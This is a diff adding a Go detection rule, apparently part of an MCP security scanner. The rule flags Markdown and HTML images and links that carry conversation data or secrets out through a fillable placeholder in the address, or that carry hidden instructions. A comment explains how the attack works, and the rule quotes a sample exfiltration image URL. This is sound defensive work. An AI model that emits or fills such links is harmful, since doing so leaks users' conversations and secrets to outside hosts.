@@ -1,0 +1,69 @@
+package detect
+
+import (
+	"bytes"
+	"strings"
+
+	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
+	"github.com/mcp-watchdog/mcp-watchdog/internal/unmask"
+)
+
+// exfiltration_link: pictures and links whose address is to carry data out. A
+// client that renders a picture fetches its address without asking, and a model
+// that was told to fills the hole in it. Shown for several assistants since 2023.
+
+var exfiltrationLink = &finding.Rule{
+	ID: "exfiltration_link", Class: "data_exfiltration", SMAC: "SMAC-2", Severity: finding.High,
+	Title:     "a link or picture carries data out",
+	Catches:   "Markdown and HTML pictures and links with a hole for a model to fill ({{conversation}}, [INSERT KEY]) or with something secret encoded in the address, and titles and descriptions of links that give orders. They are cut.",
+	Example:   "![status](https://example.net/p.png?d={{conversation_history}})",
+	Misses:    "Addresses that a model composes later, and holes that look like those of ordinary templates.",
+	Exception: "Templates and manuals can show such addresses in a code block.",
+}
+
+func detectExfiltrationLink(t *Text) {
+	var bad group
+	for _, m := range unmask.Links(t.Text()) {
+		switch m.Kind {
+		case unmask.Exfiltration:
+			if m.Weight == unmask.Carrier && strings.ContainsAny(m.Hidden, "{[<$") { // a hole, not a page that carries its own code
+				bad.add(m)
+			}
+		case unmask.LinkTitle, unmask.HiddenAttribute, unmask.HiddenElement:
+			if t.hostile(m.Hidden) {
+				bad.add(m)
+			}
+		}
+	}
+	if len(bad.spans) > 0 {
+		t.Report(finding.Finding{
+			Rule: exfiltrationLink, Severity: finding.High, Seen: finding.Mask(bad.hidden),
+			Why: plural(len(bad.spans), "link or picture carries", "links or pictures carry") + " data out or orders in",
+		}, bad.spans, "")
+	}
+}
+
+// linkLiterals begin links and pictures.
+var linkLiterals = []string{"](http", "](//", "](<http", "<img", "<a h", "<link", "<iframe", "src=", "url(", "]: http"}
+
+// longestLink is how much raw text of a link is looked at.
+const longestLink = 400
+
+// carriesSomething takes a second look at a link: only an address with a hole,
+// a query or a long odd part, or a link with a title, is worth parsing.
+func carriesSomething(content []byte, at int) bool {
+	link := content[at:min(len(content), at+longestLink)]
+	for k, c := range link {
+		switch c {
+		case '{', '$', '?', '"', '\'', '<', ' ', '[':
+			if k > 4 {
+				return true
+			}
+		case ')', '>', '\\', '\n':
+			if k > 6 {
+				return bytes.ContainsAny(link[:k], "=&%") || k > 120
+			}
+		}
+	}
+	return true
+}
